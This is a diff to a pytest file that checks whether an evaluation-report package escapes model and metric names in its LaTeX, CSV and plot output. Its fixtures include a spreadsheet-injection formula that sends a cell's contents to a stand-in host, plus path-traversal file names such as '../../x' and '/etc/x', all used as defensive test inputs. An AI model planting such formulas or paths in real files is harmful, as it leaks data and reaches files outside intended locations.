@@ -9,6 +9,7 @@ import pytest
 
 from naturel_jax.evaluators import results
 from naturel_jax.report import compare, plots, report
+from naturel_jax.report.tables import MEASURED, Cell, Row
 from tfds_naturel import card, escape
 
 FORMULA = '=HYPERLINK("http://x.example?"&A1,"_$x^{")'
@@ -78,14 +79,14 @@ def test_report_shows_names_and_problems_literally(tmp_path, model):
     assert r"\frac" not in tex and "$" not in tex.replace(r"\$", "")
     with (tmp_path / "scores.csv").open(newline="") as file:
         rows = list(csv.reader(file))[1:]
-    assert {row[0].removeprefix("'") for row in rows} == {model}
+    assert {row[0].removeprefix("'") for row in rows} == {model, "chance"}
     assert not any(cell.startswith(tuple("=+@")) for row in rows for cell in row)
-    assert [row[3] for row in rows] == ["-0.5"] * 3, "numbers stay numbers"
+    assert [row[3] for row in rows if row[-1] == "measured"] == ["-0.5"] * 3, "numbers stay numbers"
 
 
-def test_plots_draw_names_literally(tmp_path):
-    rows = {name: {"vg_relation/relation/$x^{$": 0.5} for name in ("$\\frac$", "_a", "$", "a\x07")}
-    assert plots.by_relation(rows, {}, tmp_path / "a.png")
+def test_plots_draw_names_literally():
+    cells = {"vg_relation/relation/$x^{$": Cell(0.5, (0.4, 0.6))}
+    assert plots.by_relation([Row(name, MEASURED, cells) for name in ("$\\frac$", "_a", "$", "a\x07", "x" * 200)])
 
 
 @pytest.mark.parametrize("name", ["../../x", "/etc/x", "..", ".", "a/b", "a\0b", "x" * 300, "", "C:\\x"])
